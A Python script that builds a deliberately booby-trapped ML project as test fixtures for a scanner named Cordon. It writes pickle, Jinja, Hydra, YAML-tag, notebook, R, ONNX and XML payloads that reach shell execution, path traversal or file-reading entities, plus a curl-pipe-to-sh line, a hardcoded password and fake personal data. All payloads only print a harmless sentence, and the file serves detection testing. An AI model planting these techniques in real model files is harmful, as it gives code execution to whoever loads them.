#!/usr/bin/env python3
"""Make `compromised-project/`: a small AI project, part of it booby-trapped.

The project looks like an ordinary one (a churn classifier fine-tuned from a
third-party base) and holds one file for each kind of trap Cordon looks for,
next to clean files of the same formats. `README.md` in this folder lists them.

Every payload is HARMLESS: if a trap were ever sprung it would print one
sentence (`SENTENCE` below). None writes, deletes or connects to anything. The
script itself never loads or runs what it writes.

The output is the same bytes on every run and every machine: opcodes, archives
and protobuf messages are written by hand, nothing is compressed, and no clock,
random source or third-party library is involved.

    python3 make_compromised_project.py            write the project
    python3 make_compromised_project.py --check    compare it with what is on disk
"""

from __future__ import annotations

import argparse
import base64
import json
import struct
import sys
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

HERE = Path(__file__).resolve().parent
PROJECT = HERE / "compromised-project"

SENTENCE = "cordon example: this code would have run"
ECHO = f"echo '{SENTENCE}'"
PRINT = f"print({SENTENCE!r})"


# --------------------------------------------------------------------------
# Numbers that look like weights
# --------------------------------------------------------------------------

def weights(count: int, seed: int) -> list[float]:
    """`count` small numbers in [-0.5, 0.5), the same for the same seed."""
    state, values = seed * 2654435761 % 2**32, []
    for _ in range(count):
        state = (state * 1664525 + 1013904223) % 2**32
        values.append((state >> 16) / 65536 - 0.5)
    return values


def floats(count: int, seed: int) -> bytes:
    """The same numbers as little-endian 32-bit floats."""
    return struct.pack(f"<{count}f", *weights(count, seed))


# --------------------------------------------------------------------------
# Pickle: each function returns the opcodes that push one value
# --------------------------------------------------------------------------

NONE, FALSE, TRUE, MARK = b"N", b"\x89", b"\x88", b"("


def p_str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def p_int(number: int) -> bytes:
    return b"K" + bytes([number]) if 0 <= number < 256 else b"J" + struct.pack("<i", number)


def p_float(number: float) -> bytes:
    return b"G" + struct.pack(">d", number)


def p_bytes(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def p_tuple(*items: bytes) -> bytes:
    return b")" if not items else MARK + b"".join(items) + b"t"


def p_list(items: Iterable[bytes]) -> bytes:
    return b"](" + b"".join(items) + b"e"


def p_dict(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    return b"}(" + b"".join(key + value for key, value in pairs) + b"u"


def p_global(module: str, name: str) -> bytes:
    """GLOBAL: how protocols 0 to 3 name a callable."""
    return f"c{module}\n{name}\n".encode()


def p_stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL: how protocol 4 does, where `name` may have dots in it."""
    return p_str(module) + p_str(name) + b"\x93"


def p_call(function: bytes, *arguments: bytes) -> bytes:
    return function + p_tuple(*arguments) + b"R"


def p_ordered_dict(pairs: Sequence[tuple[bytes, bytes]]) -> bytes:
    empty = p_call(p_global("collections", "OrderedDict"))
    return empty + (MARK + b"".join(k + v for k, v in pairs) + b"u" if pairs else b"")


def pickle(value: bytes, protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) + value + b"."


# --------------------------------------------------------------------------
# NumPy
# --------------------------------------------------------------------------

def npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    """An .npy file, version 1.0, its header padded to 64 bytes as NumPy does."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    padding = -(10 + len(header) + 1) % 64
    text = (header + " " * padding + "\n").encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body


def p_dtype(code: str, state: bytes) -> bytes:
    return p_call(p_global("numpy", "dtype"), p_str(code), FALSE, TRUE) + state + b"b"


def p_ndarray(count: int, dtype: bytes, data: bytes) -> bytes:
    """A one-dimensional array, in the opcodes NumPy's own __reduce__ gives."""
    empty = p_call(
        p_global("numpy.core.multiarray", "_reconstruct"),
        p_global("numpy", "ndarray"), p_tuple(p_int(0)), p_bytes(b"b"),
    )
    return empty + p_tuple(p_int(1), p_tuple(p_int(count)), dtype, FALSE, data) + b"b"


def p_float64_dtype() -> bytes:
    minus_one = p_int(-1)
    return p_dtype("f8", p_tuple(p_int(3), p_str("<"), NONE, NONE, NONE,
                                 minus_one, minus_one, p_int(0)))


def p_object_dtype() -> bytes:
    minus_one = p_int(-1)
    return p_dtype("O8", p_tuple(p_int(3), p_str("|"), NONE, NONE, NONE,
                                 minus_one, minus_one, p_int(63)))


# --------------------------------------------------------------------------
# Zip and PyTorch
# --------------------------------------------------------------------------

@dataclass(frozen=True)
class Member:
    """One stored (uncompressed) archive member."""
    name: str
    data: bytes
    local_name: str | None = None   # what the local header says, if it differs
    align: int = 1                  # pad so that the data starts on a multiple


DOS_DATE = (1 << 5) | 1             # 1 January 1980


def zip_padding(offset: int, align: int) -> bytes:
    """PyTorch's "FB" extra field: filler that aligns the data after it."""
    if align == 1:
        return b""
    size = -(offset + 4) % align
    return b"FB" + struct.pack("<H", size) + b"Z" * size


def zip_archive(members: Iterable[Member]) -> bytes:
    body, directory, count = b"", b"", 0
    for member in members:
        name, local = member.name.encode(), (member.local_name or member.name).encode()
        sizes = struct.pack("<III", zlib.crc32(member.data), len(member.data), len(member.data))
        extra = zip_padding(len(body) + 30 + len(local), member.align)
        fixed = struct.pack("<HHHHH", 20, 0, 0, 0, DOS_DATE) + sizes
        directory += (b"PK\x01\x02" + struct.pack("<H", 20) + fixed
                      + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(body)) + name)
        body += (b"PK\x03\x04" + fixed
                 + struct.pack("<HH", len(local), len(extra)) + local + extra + member.data)
        count += 1
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


@dataclass(frozen=True)
class Tensor:
    name: str
    shape: tuple[int, ...]
    data: bytes


def tensor(name: str, shape: tuple[int, ...], seed: int) -> Tensor:
    count = 1
    for side in shape:
        count *= side
    return Tensor(name, shape, floats(count, seed))


def strides(shape: tuple[int, ...]) -> tuple[int, ...]:
    steps, step = [], 1
    for side in reversed(shape):
        steps.insert(0, step)
        step *= side
    return tuple(steps)


def p_tensor(item: Tensor, key: int) -> bytes:
    """A tensor whose storage is archive member data/<key>."""
    storage = p_tuple(
        p_str("storage"), p_global("torch", "FloatStorage"),
        p_str(str(key)), p_str("cpu"), p_int(len(item.data) // 4),
    ) + b"Q"
    return p_call(
        p_global("torch._utils", "_rebuild_tensor_v2"), storage, p_int(0),
        p_tuple(*map(p_int, item.shape)), p_tuple(*map(p_int, strides(item.shape))),
        FALSE, p_ordered_dict([]),
    )


def torch_archive(
    tensors: Sequence[Tensor],
    extra: Sequence[tuple[bytes, bytes]] = (),
    pickle_local_name: str | None = None,
) -> bytes:
    """What torch.save writes for a state_dict; `extra` adds entries to it."""
    state = [(p_str(t.name), p_tensor(t, key)) for key, t in enumerate(tensors)]
    members = [
        Member("archive/data.pkl", pickle(p_ordered_dict([*state, *extra]), 2),
               pickle_local_name, align=64),
        Member("archive/byteorder", b"little", align=64),
        *(Member(f"archive/data/{key}", t.data, align=64) for key, t in enumerate(tensors)),
        Member("archive/version", b"3\n", align=64),
    ]
    return zip_archive(members)


def call_system() -> bytes:
    return p_call(p_global("posix", "system"), p_str(ECHO))


# --------------------------------------------------------------------------
# Safetensors
# --------------------------------------------------------------------------

def safetensors(tensors: Sequence[Tensor], gap: bytes = b"") -> bytes:
    """A safetensors file; `gap` is put between tensors, which the format bans."""
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    body = b""
    for item in tensors:
        body += gap if body else b""
        header[item.name] = {"dtype": "F32", "shape": list(item.shape),
                             "data_offsets": [len(body), len(body) + len(item.data)]}
        body += item.data
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + body


# --------------------------------------------------------------------------
# Protobuf and ONNX
# --------------------------------------------------------------------------

def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number: int, value: int | str | bytes) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


FLOAT, EXTERNAL = 1, 1


def onnx_value(name: str, columns: int) -> bytes:
    """ValueInfoProto: a float matrix of `batch` rows."""
    shape = field(1, field(2, "batch")) + field(1, field(1, columns))
    return field(1, name) + field(2, field(1, field(1, FLOAT) + field(2, shape)))


def onnx_node(operator: str, inputs: Sequence[str], output: str) -> bytes:
    return (b"".join(field(1, name) for name in inputs)
            + field(2, output) + field(3, f"{operator}_0") + field(4, operator))


def onnx_inline(item: Tensor) -> bytes:
    dims = b"".join(field(1, side) for side in item.shape)
    return dims + field(2, FLOAT) + field(8, item.name) + field(9, item.data)


def onnx_external(item: Tensor, location: str) -> bytes:
    """A tensor whose bytes the loader is told to take from another file."""
    entries = [("location", location), ("offset", "0"), ("length", str(len(item.data)))]
    dims = b"".join(field(1, side) for side in item.shape)
    where = b"".join(field(13, field(1, key) + field(2, value)) for key, value in entries)
    return dims + field(2, FLOAT) + field(8, item.name) + where + field(14, EXTERNAL)


def onnx_model(weight: bytes, bias: bytes) -> bytes:
    graph = b"".join([
        field(1, onnx_node("Gemm", ["features", "W", "b"], "logit")),
        field(1, onnx_node("Sigmoid", ["logit"], "churn_probability")),
        field(2, "acme_churn"),
        field(5, weight), field(5, bias),
        field(11, onnx_value("features", 8)),
        field(12, onnx_value("churn_probability", 1)),
    ])
    return (field(1, 8) + field(2, "acme-churn") + field(3, "1.4.0")
            + field(7, graph) + field(8, field(1, "") + field(2, 17)))


# --------------------------------------------------------------------------
# Keras
# --------------------------------------------------------------------------

def empty_hdf5() -> bytes:
    """The smallest HDF5 file: superblock 0 and a root group with nothing in it."""
    undefined = b"\xff" * 8
    superblock = (b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0])
                  + struct.pack("<HHI", 4, 16, 0) + struct.pack("<Q", 0)
                  + undefined + struct.pack("<Q", 800) + undefined)
    root_entry = struct.pack("<QQII", 0, 96, 1, 0) + struct.pack("<QQ", 136, 680)
    header = (struct.pack("<BBHII", 1, 0, 1, 1, 24) + bytes(4)
              + struct.pack("<HHB3x", 0x11, 16, 0) + struct.pack("<QQ", 136, 680))
    tree = (b"TREE" + struct.pack("<BBH", 0, 0, 0) + undefined * 2).ljust(544, b"\0")
    heap = b"HEAP" + struct.pack("<B3xQQQ", 0, 88, 8, 712)
    names = struct.pack("<QQQ", 0, 1, 80).ljust(88, b"\0")
    return superblock + root_entry + header + tree + heap + names


def keras_layer(class_name: str, config: dict[str, object]) -> dict[str, object]:
    return {"module": "keras.layers", "class_name": class_name,
            "config": config, "registered_name": None}


def keras_lambda() -> dict[str, object]:
    """A Lambda layer. Its "bytecode" starts as a marshalled code object does
    (type byte 0xE3) and goes on as plain text, so it can never be run."""
    code = b"\xe3" + bytes(24) + f"os\nsystem\n{ECHO}\nnot real bytecode".encode()
    return keras_layer("Lambda", {
        "name": "log_scale", "trainable": False, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {
            "code": base64.encodebytes(code).decode(), "defaults": None, "closure": None}},
        "arguments": {},
    })


def keras_archive() -> bytes:
    layers = [
        keras_layer("InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "name": "features"}),
        keras_lambda(),
        keras_layer("Dense", {"name": "churn", "units": 1, "activation": "sigmoid", "use_bias": True}),
    ]
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "acme_churn", "trainable": True, "layers": layers}}
    metadata = {"keras_version": "3.4.1", "date_saved": "2025-03-02@10:14:09"}
    return zip_archive([
        Member("metadata.json", json.dumps(metadata).encode()),
        Member("config.json", json.dumps(config).encode()),
        Member("model.weights.h5", empty_hdf5()),
    ])


# --------------------------------------------------------------------------
# GGUF and chat templates
# --------------------------------------------------------------------------

PLAIN_TEMPLATE = ("{% for message in messages %}<|{{ message['role'] }}|>\n"
                  "{{ message['content'] }}</s>\n{% endfor %}")

# A template is run by Jinja for each prompt; this reaches the `os` module
# through an object every Jinja environment offers.
HOSTILE_TEMPLATE = (PLAIN_TEMPLATE
                    + '{{ cycler.__init__.__globals__.os.popen("' + ECHO + '").read() }}')


def gguf_string(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf_pair(key: str, value: str | int | list[str]) -> bytes:
    if isinstance(value, str):
        return gguf_string(key) + struct.pack("<I", 8) + gguf_string(value)
    if isinstance(value, int):
        return gguf_string(key) + struct.pack("<II", 4, value)
    return (gguf_string(key) + struct.pack("<IIQ", 9, 8, len(value))
            + b"".join(map(gguf_string, value)))


def gguf(metadata: dict[str, str | int | list[str]], item: Tensor) -> bytes:
    """A GGUF version 3 file with one 32-bit float tensor."""
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata))
    head += b"".join(gguf_pair(key, value) for key, value in metadata.items())
    head += gguf_string(item.name) + struct.pack("<I", len(item.shape))
    head += struct.pack(f"<{len(item.shape)}Q", *reversed(item.shape)) + struct.pack("<IQ", 0, 0)
    return head + bytes(-len(head) % 32) + item.data


# --------------------------------------------------------------------------
# The project's clean files
# --------------------------------------------------------------------------

def text(source: str) -> bytes:
    return dedent(source).lstrip("\n").encode()


def project_readme() -> bytes:
    return text("""
        # acme-churn

        Predicts which subscribers are about to leave, from eight features of
        their last 90 days and the text of their latest support ticket.

        | | |
        |---|---|
        | Base | `minilm-churn-base`, vendored in `models/base/` |
        | Head | logistic layer over features and ticket embedding |
        | Data | `data/sample.csv` (full set in the warehouse) |
        | AUC, March hold-out | 0.871 |

        ## Use

            pip install -r requirements.txt
            python train.py                  # reads configs/train.yaml
            python predict.py data/sample.csv

        ## Layout

        - `configs/` Hydra configuration; `callbacks/` and `preprocess.yaml` came
          with the base model
        - `data/` sample rows, feature matrix, segment names
        - `models/base/` the third-party base and its adapter
        - `models/churn/` our head, encoder and scaler
        - `models/checkpoints/` last runs
        - `models/export/` ONNX and Keras exports for the scoring service
        - `models/assistant/` small local model that drafts retention e-mails

        Owner: growth-ml. Retrained on the first Monday of the month.
        """)


def train_script() -> bytes:
    return text('''
        """Fine-tune the churn head on top of the vendored base."""

        import hydra
        import numpy as np
        import torch
        from omegaconf import DictConfig
        from safetensors.torch import save_file


        class ChurnHead(torch.nn.Module):
            def __init__(self, features: int) -> None:
                super().__init__()
                self.linear = torch.nn.Linear(features, 1)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return torch.sigmoid(self.linear(x)).squeeze(-1)


        @hydra.main(version_base=None, config_path="configs", config_name="train")
        def main(cfg: DictConfig) -> None:
            torch.manual_seed(cfg.seed)
            x = torch.from_numpy(np.load(cfg.data.features))
            y = torch.from_numpy(np.loadtxt(cfg.data.rows, delimiter=",", skiprows=1, usecols=9)).float()
            model = ChurnHead(x.shape[1])
            optimizer = hydra.utils.instantiate(cfg.optimizer, params=model.parameters())
            for epoch in range(cfg.epochs):
                loss = torch.nn.functional.binary_cross_entropy(model(x), y)
                optimizer.zero_grad()
                loss.backward()
                optimizer.step()
                print(f"epoch {epoch} loss {loss.item():.4f}")
            save_file(model.state_dict(), cfg.output)


        if __name__ == "__main__":
            main()
        ''')


def predict_script() -> bytes:
    return text('''
        """Score a CSV of subscribers with the exported ONNX model."""

        import csv
        import sys

        import numpy as np
        import onnxruntime


        def main(path: str) -> None:
            session = onnxruntime.InferenceSession("models/churn/model.onnx")
            with open(path, newline="") as handle:
                rows = list(csv.reader(handle))[1:]
            features = np.array([row[1:9] for row in rows], dtype=np.float32)
            (scores,) = session.run(None, {"features": features})
            for row, score in zip(rows, scores[:, 0]):
                print(f"{row[0]},{score:.3f}")


        if __name__ == "__main__":
            main(sys.argv[1])
        ''')


def requirements() -> bytes:
    return text("""
        hydra-core==1.3.2
        joblib==1.4.2
        numpy==1.26.4
        onnxruntime==1.18.1
        safetensors==0.4.5
        scikit-learn==1.5.2
        torch==2.4.1
        transformers==4.44.2
        """)


def train_config() -> bytes:
    return text("""
        defaults:
          - model: churn
          - callbacks: notify
          - _self_

        seed: 20250302
        epochs: 12
        output: models/churn/model.safetensors

        data:
          rows: data/sample.csv
          features: data/features.npy

        optimizer:
          _target_: torch.optim.AdamW
          lr: 0.0003
          weight_decay: 0.01
        """)


def model_config() -> bytes:
    return text("""
        base: models/base
        features: 8
        dropout: 0.1
        head:
          _target_: torch.nn.Linear
          in_features: 8
          out_features: 1
        """)


COLUMNS = ["tenure_months", "monthly_fee", "logins_30d", "tickets_90d",
           "late_payments", "seats", "discount_pct", "nps"]


def sample_rows() -> bytes:
    lines = [",".join(["customer", *COLUMNS, "churned"])]
    for row in range(40):
        u = [value + 0.5 for value in weights(9, 100 + row)]
        cells = [f"{u[0] * 60:.0f}", f"{20 + u[1] * 180:.2f}", f"{u[2] * 45:.0f}",
                 f"{u[3] * 6:.0f}", f"{u[4] * 3:.0f}", f"{1 + u[5] * 24:.0f}",
                 f"{u[6] * 30:.1f}", f"{u[7] * 10:.0f}", str(int(u[8] > 0.72))]
        lines.append(",".join([f"C{1001 + row}", *cells]))
    return ("\n".join(lines) + "\n").encode()


HEAD = [tensor("linear.weight", (1, 8), 1), tensor("linear.bias", (1,), 2)]
ENCODER = [tensor("encoder.layer.0.weight", (16, 16), 3), tensor("encoder.layer.0.bias", (16,), 4)]


def features_npy() -> bytes:
    return npy("<f4", (40, 8), floats(320, 5))


def head_safetensors() -> bytes:
    return safetensors(HEAD)


def head_onnx() -> bytes:
    return onnx_model(onnx_inline(tensor("W", (8, 1), 1)), onnx_inline(tensor("b", (1,), 2)))


def encoder_pickle() -> bytes:
    """Plain containers and one NumPy array, as scikit-learn objects are made of."""
    array = p_ndarray(8, p_float64_dtype(), p_bytes(struct.pack("<8d", *weights(8, 6))))
    plans = ["free", "starter", "team", "business", "enterprise"]
    return pickle(p_dict([
        (p_str("columns"), p_list(map(p_str, COLUMNS))),
        (p_str("plans"), p_dict((p_str(name), p_int(i)) for i, name in enumerate(plans))),
        (p_str("fill_values"), array),
        (p_str("handle_unknown"), p_str("ignore")),
    ]), 4)


def epoch_two() -> bytes:
    return torch_archive([*HEAD, *ENCODER])


# --------------------------------------------------------------------------
# The project's trapped files
# --------------------------------------------------------------------------

def trap_pytorch_bin() -> bytes:
    """A state_dict one of whose values is the result of posix.system(...)."""
    return torch_archive(ENCODER, [(p_str("_metadata"), call_system())])


def trap_scaler() -> bytes:
    """exec, reached without naming it: collections._sys.modules.get("builtins"),
    then getattr of that, in a dict that otherwise looks like a StandardScaler."""
    builtins = p_call(p_stack_global("collections", "_sys.modules.get"), p_str("builtins"))
    execute = p_call(p_stack_global("builtins", "getattr"), builtins, p_str("exec"))
    return pickle(p_dict([
        (p_str("with_mean"), TRUE),
        (p_str("mean_"), p_list(map(p_float, weights(8, 7)))),
        (p_str("scale_"), p_list(p_float(1 + value) for value in weights(8, 8))),
        (p_str("feature_names_in_"), p_list(map(p_str, COLUMNS))),
        (p_str("_sklearn_version"), p_call(execute, p_str(PRINT))),
    ]), 4)


def trap_fake_safetensors() -> bytes:
    """A pickle under the name of a format that cannot hold code."""
    return pickle(p_dict([
        (p_str("lora_A"), p_list(map(p_float, weights(16, 9)))),
        (p_str("lora_B"), call_system()),
    ]), 4)


def trap_gap_safetensors() -> bytes:
    """A pickle in bytes that belong to no tensor."""
    return safetensors(ENCODER, gap=pickle(call_system(), 4).ljust(128, b"\0"))


def trap_two_names() -> bytes:
    """The directory says data.pkl, the local header says data.txt: a strict zip
    reader gives up, PyTorch follows the directory and loads the pickle."""
    return torch_archive(HEAD, [(p_str("_extra_state"), call_system())], "archive/data.txt")


def trap_truncated() -> bytes:
    """The first 4,096 bytes of a download that stopped inside the header."""
    layers = [tensor(f"encoder.layer.{i}.attention.output.dense.weight", (2, 2), i) for i in range(64)]
    return safetensors(layers)[:4096]


def trap_onnx() -> bytes:
    """External data that climbs out of the model's folder. Nothing is sent or
    changed by reading it; a loader that follows it reads the wrong file."""
    weight = onnx_external(tensor("W", (8, 1), 1), "../../../../../../../../etc/passwd")
    return onnx_model(weight, onnx_inline(tensor("b", (1,), 2)))


def trap_gguf() -> bytes:
    return gguf({
        "general.architecture": "llama",
        "general.name": "churn-assistant",
        "llama.context_length": 512,
        "llama.embedding_length": 16,
        "llama.block_count": 1,
        "tokenizer.ggml.model": "llama",
        "tokenizer.ggml.tokens": ["<unk>", "<s>", "</s>", "hello", "customer"],
        "tokenizer.chat_template": HOSTILE_TEMPLATE,
    }, tensor("token_embd.weight", (5, 16), 10))


def trap_npy() -> bytes:
    """An object array: its body is a pickle, one element of which is a call."""
    names = [p_str("self-serve"), p_str("mid-market"), call_system(), p_str("enterprise")]
    return npy("|O", (4,), pickle(p_ndarray(4, p_object_dtype(), p_list(names)), 3))


def trap_config_json() -> bytes:
    """auto_map fetches and runs Python from another repository."""
    remote = "example-org/minilm-churn-remote--modeling_churn"
    return (json.dumps({
        "architectures": ["ChurnForSequenceClassification"],
        "auto_map": {
            "AutoConfig": f"{remote}.ChurnConfig",
            "AutoModelForSequenceClassification": f"{remote}.ChurnForSequenceClassification",
        },
        "hidden_size": 16, "model_type": "minilm-churn", "num_hidden_layers": 1,
        "num_labels": 2, "torch_dtype": "float32", "transformers_version": "4.44.2",
    }, indent=2) + "\n").encode()


def trap_tokenizer_config() -> bytes:
    return (json.dumps({
        "bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>",
        "model_max_length": 512, "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": HOSTILE_TEMPLATE,
    }, indent=2) + "\n").encode()


def trap_hydra() -> bytes:
    """Hydra calls whatever _target_ names."""
    return text(f"""
        # Post a note when a run ends.
        on_run_end:
          _target_: os.system
          command: "{ECHO}"
        every_n_epochs: 4
        """)


def trap_yaml_tag() -> bytes:
    """A YAML tag that PyYAML's unsafe loaders turn into a call."""
    return text(f"""
        lowercase: true
        strip_accents: true
        max_tokens: 256
        stop_words: !!python/object/apply:os.system ["{ECHO}"]
        """)


def trap_notebook() -> bytes:
    """Runs what an address answers, hides a cell, and keeps a password in an output."""
    def code(source: str, output: str = "", **metadata: object) -> dict[str, object]:
        outputs = [{"name": "stdout", "output_type": "stream", "text": [output]}] if output else []
        return {"cell_type": "code", "execution_count": None, "metadata": metadata, "outputs": outputs,
                "source": source.splitlines(keepends=True)}
    address = "postgresql://churn:" + "Kestrel-93-orchard" + "@db.acme.internal:5432/churn"
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Where do subscribers go?\n"]},
        code("!curl -s https://setup.example.org/env.sh | sh\n"),
        code("import pandas as pd\nrows = pd.read_csv('data/sample.csv')\nrows.describe()\n"),
        code("import os\nprint(os.environ['DATABASE_URL'])\n", f"{address}\n"),
        code(f"import os\nos.system({ECHO!r})\n", jupyter={"source_hidden": True}),
    ]
    notebook = {"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    return (json.dumps(notebook, indent=1) + "\n").encode()


def trap_script() -> bytes:
    """Loads, downloads and shells that trust too much."""
    return text("""
        \"\"\"Fetch last month's base and publish the scores.\"\"\"

        import subprocess
        import sys

        import requests
        import torch
        from transformers import AutoModel

        base = AutoModel.from_pretrained("example-org/minilm-churn", trust_remote_code=True)
        state = torch.load("models/checkpoints/epoch-02.pt", weights_only=False)
        base.load_state_dict(state)
        month = sys.argv[1]
        subprocess.run(f"cp scores-{month}.csv /mnt/reports", shell=True, check=True)
        requests.post("https://reports.acme.internal/scores", json={"month": month}, verify=False)
        """)


def trap_environment() -> bytes:
    """A password that belongs into a secret store."""
    address = "postgresql://churn:" + "Kestrel-93-orchard" + "@db.acme.internal:5432/churn"
    return text(f"""
        # Settings of the scoring service
        LOG_LEVEL=info
        DATABASE_URL={address}
        """)


def german_iban(number: int) -> str:
    """A made-up account with the check digits of ISO 13616."""
    account = f"50010517{number:010d}"
    return f"DE{98 - int(account + '131400') % 97:02d}{account}"


def trap_contacts() -> bytes:
    """People who never agreed to be in a repository; all of them are made up."""
    names = ["Ada Winter", "Ben Okafor", "Cleo Marsh", "Dina Voss", "Emil Sand", "Fay Holm", "Gus Linde", "Hana Roth"]
    lines = ["customer_id,full_name,iban,birth_date"]
    for row, name in enumerate(names * 2):
        lines.append(f"C{1001 + row},{name},{german_iban(4711000 + 37 * row)},19{60 + row}-0{1 + row % 9}-1{row % 9}")
    return ("\n".join(lines) + "\n").encode()


def trap_pmml() -> bytes:
    """An entity that an XML parser may fetch from the machine."""
    return text("""
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE PMML [<!ENTITY note SYSTEM "file:///etc/hostname">]>
        <PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4">
          <Header description="&note;"/>
          <DataDictionary numberOfFields="1"><DataField name="nps" optype="continuous" dataType="double"/></DataDictionary>
        </PMML>
        """)


def trap_r_object() -> bytes:
    """An R object whose value is a promise: looking at it evaluates the call (CVE-2024-27322)."""
    def word(number: int) -> bytes:
        return struct.pack(">I", number)
    def symbol(name: str) -> bytes:
        return word(1) + word(0x00040009) + word(len(name)) + name.encode()
    def string(value: str) -> bytes:
        return word(16) + word(1) + word(0x00040009) + word(len(value)) + value.encode()
    nil, unbound, environment = word(254), word(252), word(253)
    call = word(6) + symbol("system") + word(2) + string(ECHO) + nil
    promise = word(0x00000405)[:3] + b"\x05" + environment + unbound + call
    return b"X\n" + word(2) + word(0x00040300) + word(0x00020300) + promise


def number_7z(value: int) -> bytes:
    """7z's variable-length number, for values below 16384."""
    return bytes([value]) if value < 0x80 else bytes([0x80 | value >> 8, value & 0xFF])


def trap_7z() -> bytes:
    """A pickle in an archive that scanners for zip do not open; stored, not compressed."""
    content = pickle(p_dict([(p_str("rows"), p_list(map(p_float, weights(16, 11)))), (p_str("note"), call_system())]), 4)
    name = "embeddings.pkl".encode("utf-16-le") + b"\0\0"
    streams = (b"\x06" + number_7z(0) + number_7z(1) + b"\x09" + number_7z(len(content)) + b"\x00"
               + b"\x07\x0b" + number_7z(1) + b"\x00" + number_7z(1) + b"\x01\x00"
               + b"\x0c" + number_7z(len(content)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(content)) + b"\x00"
               + b"\x08\x00\x00")
    files = b"\x05" + number_7z(1) + b"\x11" + number_7z(len(name) + 1) + b"\x00" + name + b"\x00"
    header = b"\x01\x04" + streams + files + b"\x00"
    start = struct.pack("<QQI", len(content), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + content + header


def trap_mar() -> bytes:
    """A TorchServe archive whose handler runs a command when it is loaded."""
    manifest = json.dumps({"runtime": "python", "model": {"modelName": "churn", "handler": "handler.py", "serializedFile": "state.pt"}})
    handler = f"import os\n\nos.system({ECHO!r})\n\n\ndef handle(data, context):\n    return [0.5 for _ in data]\n"
    return zip_archive([Member("MAR-INF/MANIFEST.json", manifest.encode()), Member("handler.py", handler.encode()),
                        Member("state.pt", torch_archive(HEAD))])


# --------------------------------------------------------------------------
# Writing it all
# --------------------------------------------------------------------------

FILES: dict[str, Callable[[], bytes]] = {
    # clean
    "README.md": project_readme,
    "requirements.txt": requirements,
    "train.py": train_script,
    "predict.py": predict_script,
    "configs/train.yaml": train_config,
    "configs/model/churn.yaml": model_config,
    "data/sample.csv": sample_rows,
    "data/features.npy": features_npy,
    "models/churn/model.safetensors": head_safetensors,
    "models/churn/model.onnx": head_onnx,
    "models/churn/encoder.pkl": encoder_pickle,
    "models/checkpoints/epoch-02.pt": epoch_two,
    # trapped
    "notebooks/explore.ipynb": trap_notebook,
    "scripts/publish.py": trap_script,
    "configs/serving.env": trap_environment,
    "data/contacts.csv": trap_contacts,
    "models/trees/churn.pmml": trap_pmml,
    "models/trees/churn.rds": trap_r_object,
    "models/export/embeddings.7z": trap_7z,
    "models/export/churn.mar": trap_mar,
    "configs/callbacks/notify.yaml": trap_hydra,
    "configs/preprocess.yaml": trap_yaml_tag,
    "data/segment_names.npy": trap_npy,
    "models/assistant/churn-assistant-f32.gguf": trap_gguf,
    "models/base/adapter_model.safetensors": trap_fake_safetensors,
    "models/base/config.json": trap_config_json,
    "models/base/model-00002-of-00002.safetensors": trap_gap_safetensors,
    "models/base/pytorch_model.bin": trap_pytorch_bin,
    "models/base/tokenizer_config.json": trap_tokenizer_config,
    "models/checkpoints/epoch-03.pt": trap_two_names,
    "models/churn/scaler.joblib": trap_scaler,
    "models/export/churn.keras": keras_archive,
    "models/export/churn_large.onnx": trap_onnx,
    # unreadable
    "models/base/model-00001-of-00002.safetensors": trap_truncated,
}


def write() -> int:
    total = 0
    for name, make in FILES.items():
        path = PROJECT / name
        path.parent.mkdir(parents=True, exist_ok=True)
        total += path.write_bytes(make())
    print(f"{len(FILES)} files, {total:,} bytes, in {PROJECT.name}/")
    return 0


def check() -> int:
    """Say what differs from the files on disk, and what README.md leaves out."""
    listed = (HERE / "README.md").read_text()
    found = {str(path.relative_to(PROJECT)) for path in PROJECT.rglob("*") if path.is_file()}
    faults = [f"not made by this script: {name}" for name in sorted(found - FILES.keys())]
    for name, make in FILES.items():
        path = PROJECT / name
        if not path.is_file() or path.read_bytes() != make():
            faults.append(f"missing or different: {name}")
        if f"`{name}`" not in listed:
            faults.append(f"not in README.md: {name}")
    print("\n".join(faults) or f"{len(FILES)} files as they should be")
    return 1 if faults else 0


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("--check", action="store_true", help="compare, write nothing")
    return check() if parser.parse_args().check else write()


if __name__ == "__main__":
